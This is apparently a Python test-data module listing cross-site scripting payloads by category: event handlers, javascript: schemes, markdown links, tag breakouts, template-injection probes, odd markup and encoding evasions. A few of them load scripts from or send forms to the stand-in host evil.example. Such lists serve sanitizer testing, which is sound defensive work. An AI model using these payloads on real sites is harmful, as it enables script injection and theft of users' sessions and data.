"""Hostile texts: what has been put into fields to run a script on somebody else's page, by kind. Written for this project."""

EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbeforeinput", "onscrollend")
ELEMENTS = ("img src=x", "svg", "body", "video><source", "details open", "iframe", "input autofocus", "marquee", "audio src=x", "object data=x")
SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
           "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "//evil.example/x")  # fmt: skip
MARKDOWN = tuple(f"[click]({scheme})" for scheme in SCHEMES) + tuple(f"![]({scheme})" for scheme in SCHEMES) + tuple(f"<{scheme}>" for scheme in SCHEMES)
BREAKING_OUT = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</p><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="', "' onmouseover=alert(1) x='", "` onmouseover=alert(1)", "</blockquote></article></main><script>alert(1)</script>",
    '"></a><a href="javascript:alert(1)">', "<script src=//evil.example/x.js></script>", "<script>alert(1)", "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script>", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>",
)  # fmt: skip
TEMPLATES = ("{{ 7*7 }}", "{{ config }}", "{% raw %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}")
MARKUP = (
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><button>Go", "<math><mi xlink:href='javascript:alert(1)'>x",
    "<svg><a xlink:href='javascript:alert(1)'><text>x", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='&#x6A;avascript:alert(1)'>x</a>", "<img src='x' onerror='alert(1)'>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<portal src=//evil.example>", "<dialog open onclose=alert(1)>", "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)>", "<div style='background:url(javascript:alert(1))'>", "<isindex type=image src=1 onerror=alert(1)>",
)  # fmt: skip
UNUSUAL = (
    "\u202e<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "\ufeff<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<bdi></bdi></bdi><script>alert(1)</script>",
    "مرحبا \"><img src=x onerror=alert(1)>", "안녕 '><svg onload=alert(1)>", "e\u0301\u0301\u0301<b onclick=alert(1)>", "\u2066<img src=x onerror=alert(1)>\u2069", "😀<img/src/onerror=alert(1)>",
)  # fmt: skip

VECTORS = (
    *(f"<{element} {event}=alert(1)>" for element, event in zip(ELEMENTS * 3, EVENTS * 3, strict=True)),
    *(f'<p {event}="alert(1)">x</p>' for event in EVENTS), *SCHEMES, *MARKDOWN, *BREAKING_OUT, *TEMPLATES, *MARKUP, *UNUSUAL,
)  # fmt: skip
